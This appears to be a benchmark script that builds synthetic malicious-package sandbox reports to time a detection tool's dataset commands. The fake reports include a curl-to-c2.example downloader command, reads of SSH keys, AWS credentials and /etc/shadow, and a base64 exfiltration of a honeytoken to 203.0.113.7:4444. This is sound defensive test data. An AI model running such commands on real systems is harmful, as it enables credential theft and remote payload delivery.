"""Benchmark `osptrack dataset build` and `dataset stats` on synthetic run folders.

    .venv/bin/python benchmarks/dataset_build.py [--reports 10000] [--files 4000] [--workers 2]

Generates REPORTS run folders under /tmp (each with ~FILES file records, the paper's malicious
average being ~4,018), a baseline run and a labels.parquet, then runs the real CLI as a
subprocess and prints reports/s and peak memory (RSS of the whole process tree, sampled every
0.1 s), then runs `dataset stats`. Everything generated is deleted at the end.

The synthetic reports imitate real ones: ~85% of file records are toolchain paths drawn from a
shared vocabulary (what the baseline sees), the rest are the package's own files under its
site-packages folder plus, for one report in five, credential reads, persistence writes, a
downloader command and a raw-IP connection. events.jsonl carries the process tree and 500 file
events per report (real ones carry more; the reader skips file lines with a byte test).
"""

from __future__ import annotations

import argparse
import base64
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import orjson

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests" / "dataset"))

SITE = "/usr/lib/python3/dist-packages"
STDLIB = [f"/usr/lib/python3.11/{d}/{m}.py" for d in ("", "encodings", "email", "json", "http", "urllib",
          "importlib", "collections", "asyncio", "xml/etree", "logging", "concurrent/futures")
          for m in ("__init__", "util", "base", "core", "parser", "client", "decoder", "encoder", "abc",
                    "machinery", "_bootstrap", "tasks", "events", "handlers", "config", "process", "thread",
                    "message", "headers", "request", "response", "errors", "constants", "streams", "locks",
                    "queues", "selector", "protocol", "transport", "utils")]  # fmt: skip
TOOLCHAIN = STDLIB + [
    f"/usr/lib/python3/dist-packages/pip/_internal/{a}/{b}.py"
    for a in ("cli", "commands", "index", "models", "network", "operations", "req", "resolution", "utils", "vcs")
    for b in ("__init__", "base", "main", "install", "link", "session", "prepare", "check", "freeze", "wheel",
              "download", "cache", "req_file", "req_install", "resolver", "factory", "provider", "misc",
              "logging", "compat", "filesystem", "hashes", "packaging", "urls", "subprocess", "git")
] + [f"/usr/lib/x86_64-linux-gnu/lib{n}.so.{v}" for n in ("ssl", "crypto", "ffi", "z", "bz2", "lzma", "expat")
     for v in (1, 3)] + ["/etc/ld.so.cache", "/etc/localtime", "/etc/nsswitch.conf", "/etc/hosts"]  # fmt: skip
SUSPICIOUS_READS = [
    "/root/.ssh/id_rsa",
    "/root/.aws/credentials",
    "/root/.npmrc",
    "/etc/passwd",
    "/etc/shadow",
]
SUSPICIOUS_WRITES = ["/root/.bashrc", "/etc/cron.d/update", "/tmp/.x/payload"]


def _file(path: str, read: bool, write: bool) -> bytes:
    return orjson.dumps({"Path": path, "Read": read, "Write": write, "Delete": False})


TOOL_BYTES = [_file(p, True, False) for p in TOOLCHAIN]


def _phase(files: list[bytes], commands: list[dict], sockets: list[dict], dns: list[dict]) -> bytes:
    return (
        b'{"Status":"completed","Stdout":"","Stderr":"","Files":['
        + b",".join(files)
        + b'],"Sockets":'
        + orjson.dumps(sockets)
        + b',"Commands":'
        + orjson.dumps(commands)
        + b',"DNS":'
        + orjson.dumps(dns)
        + b"}"
    )


def make_run(folder: Path, i: int, n_files: int, suspicious: bool, name: str | None = None) -> None:
    rng = random.Random(i)
    name = name or f"pkg{i:05d}"
    version = f"1.{i % 7}.{i % 13}"
    module = name.replace("-", "_")
    own = max(1, n_files * 15 // 100)
    phases = {}
    for phase, share in (("install", 0.6), ("import", 0.4)):
        count = int(n_files * share)
        files = [rng.choice(TOOL_BYTES) for _ in range(count - int(own * share))]
        files += [
            _file(f"{SITE}/{module}/sub{j % 9}/mod{j}.py", True, phase == "install")
            for j in range(int(own * share))
        ]
        commands = [
            {
                "Command": [
                    "/usr/bin/python3",
                    "-m",
                    "pip",
                    "install",
                    f"/tmp/tmp{rng.getrandbits(40):010x}/{module}.whl",
                ],
                "Environment": ["PATH=/usr/bin"],
            }
        ]
        sockets: list[dict] = []
        dns: list[dict] = []
        if suspicious and phase == "install":
            files += [_file(p, True, False) for p in SUSPICIOUS_READS]
            files += [_file(p, False, True) for p in SUSPICIOUS_WRITES]
            commands.append({"Command": ["sh", "-c", "curl -s http://c2.example/x | base64 -d > /tmp/.x/p"],
                             "Environment": []})  # fmt: skip
            sockets.append({"Address": "203.0.113.7", "Port": 4444, "Hostnames": []})
            dns.append({"Class": "IN", "Queries": [{"Hostname": "c2.example", "Types": ["A"]}]})
        phases[phase] = _phase(files, commands, sockets, dns)
    folder.mkdir(parents=True)
    result = (
        b'{"Package":{"Ecosystem":"pypi","Name":"' + name.encode() + b'","Version":"' + version.encode()
        + b'"},"CreatedTimestamp":1764169200,"Analysis":{"install":' + phases["install"]
        + b',"import":' + phases["import"] + b"}}"
    )  # fmt: skip
    (folder / "result.json").write_bytes(result)
    events = []
    for pid in range(100, 120):
        events.append({"t": 1.0 + pid, "phase": "install", "pid": pid, "ppid": pid - 1 if pid > 100 else None,
                       "kind": "process", "op": "exec", "argv": ["python3"], "exe": "/usr/bin/python3"})  # fmt: skip
    for j in range(500):
        events.append({"t": 2.0 + j, "phase": "install", "pid": 100 + j % 20, "ppid": 99, "kind": "file",
                       "syscall": "openat", "op": "read", "path": TOOLCHAIN[j % len(TOOLCHAIN)], "ret": 3,
                       "errno": None, "args": ["AT_FDCWD", "O_RDONLY"]})  # fmt: skip
    for pid in range(119, 99, -1):
        events.append({"t": 600.0 + pid, "phase": "install", "pid": pid, "ppid": None, "kind": "process",
                       "op": "exit", "exit_code": 0})  # fmt: skip
    (folder / "events.jsonl").write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events))
    token = f"AKIA{i:016d}"
    net = []
    if suspicious:
        payload = base64.b64encode(f"POST /k?aws={token}".encode()).decode()
        net.append({"t": 5.0, "phase": "install", "kind": "tcp", "dst": "203.0.113.7", "dst_port": 4444,
                    "bytes": 40, "first_bytes": payload})  # fmt: skip
    (folder / "network.jsonl").write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in net))
    run = {
        "tool": {"name": "osptrack", "version": "0.1.0"},
        "package": {"ecosystem": "pypi", "name": name, "version": version, "archive": f"{module}-{version}.whl"},
        "honeytokens": [{"kind": "aws_access_key_id", "value": token, "planted": ["env:AWS_ACCESS_KEY_ID"]}],
        "phases": {"install": {"status": "completed", "wall_s": 3.0 + rng.random(), "timed_out": False},
                   "import": {"status": "completed", "wall_s": 1.0 + rng.random(), "timed_out": False}},
        "trace": {"valid": True, "events": len(events), "dropped": 0, "truncated": False},
    }  # fmt: skip
    (folder / "run.json").write_bytes(orjson.dumps(run))


def _make_range(args: tuple[str, int, int, int]) -> None:
    root, start, stop, n_files = args
    for i in range(start, stop):
        make_run(Path(root) / f"run-{i:05d}", i, n_files, suspicious=i % 5 == 0)


def peak_rss_of_tree(pid: int) -> int:
    """Current RSS (bytes) of `pid` and all its descendants, from /proc."""
    children: dict[int, list[int]] = {}
    rss: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as fh:
                fields = fh.read().rsplit(")", 1)[1].split()
            ppid, pages = int(fields[1]), int(fields[21])
        except (OSError, IndexError, ValueError):
            continue
        children.setdefault(ppid, []).append(int(entry))
        rss[int(entry)] = pages * os.sysconf("SC_PAGE_SIZE")
    total, stack = 0, [pid]
    while stack:
        p = stack.pop()
        total += rss.get(p, 0)
        stack.extend(children.get(p, []))
    return total


def run_measured(cmd: list[str]) -> tuple[float, int, str, float]:
    """Wall seconds, peak tree RSS, output, and CPU seconds (user+sys of the command and its workers)."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    started = time.perf_counter()
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    peak = 0
    while proc.poll() is None:
        peak = max(peak, peak_rss_of_tree(proc.pid))
        time.sleep(0.1)
    out = proc.stdout.read() if proc.stdout else ""
    elapsed = time.perf_counter() - started
    if proc.returncode != 0:
        raise SystemExit(f"command failed ({proc.returncode}): {' '.join(cmd)}\n{out}")
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return elapsed, peak, out, cpu


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--reports", type=int, default=10_000)
    parser.add_argument("--files", type=int, default=4_000)
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--format", default="parquet,csv")
    parser.add_argument("--keep", action="store_true", help="keep the generated data")
    args = parser.parse_args()

    from dataset_helpers import write_labels

    root = Path(tempfile.mkdtemp(prefix="osptrack-bench-", dir="/tmp"))
    try:
        runs = root / "runs"
        runs.mkdir()
        t0 = time.perf_counter()
        step = 250
        with ProcessPoolExecutor(2) as pool:
            list(pool.map(_make_range, [(str(runs), s, min(s + step, args.reports), args.files)
                                        for s in range(0, args.reports, step)]))  # fmt: skip
        make_run(root / "baseline" / "pypi-null", 10**6, args.files, suspicious=False, name="osptrack-null")
        write_labels(root / "labels.parquet", [
            {"id": f"MAL-{i}", "ecosystem": "pypi", "name": f"pkg{i:05d}", "versions": [f"1.{i % 7}.{i % 13}"],
             "sub_labels": ["c2"]} for i in range(0, args.reports, 5)
        ])  # fmt: skip
        gen_s = time.perf_counter() - t0
        size = sum(f.stat().st_size for f in runs.rglob("*") if f.is_file())
        print(f"generated {args.reports} run folders ({size / 2**30:.2f} GiB, {args.files} file records each) "
              f"in {gen_s:.0f}s under {root}")  # fmt: skip

        exe = [sys.executable, "-c", "from osptrack.cli import main; main()"]
        out = root / "dataset"
        cmd = [*exe, "dataset", "build", str(runs), "--labels", str(root / "labels.parquet"), "--out", str(out),
               "--baseline", str(root / "baseline"), "--workers", str(args.workers), "--format", args.format]  # fmt: skip
        load_before = os.getloadavg()[0]
        elapsed, peak, text, cpu = run_measured(cmd)
        print(text.strip())
        print(f"dataset build: {args.reports} reports in {elapsed:.1f}s = {args.reports / elapsed:.0f} reports/s "
              f"(workers={args.workers}, formats={args.format}); peak RSS of the process tree "
              f"{peak / 2**20:.0f} MiB")  # fmt: skip
        # The machine may be shared: CPU time says what the build costs whatever else runs.
        print(f"  CPU {cpu:.1f}s user+sys = {1000 * cpu / args.reports:.2f} ms/report; "
              f"CPU-bound rate on {os.cpu_count()} cores = {args.reports / (cpu / os.cpu_count()):.0f} reports/s; "
              f"1-min load average before: {load_before:.1f}")  # fmt: skip
        for f in sorted(out.iterdir()):
            print(f"  {f.name}: {f.stat().st_size / 2**20:.1f} MiB")
        stats_s, stats_peak, text, _ = run_measured(
            [*exe, "dataset", "stats", str(out), "--plots", str(root / "plots")]
        )
        print(text.strip())
        print(f"dataset stats: {stats_s:.1f}s, peak RSS {stats_peak / 2**20:.0f} MiB")
    finally:
        if not args.keep:
            shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main()
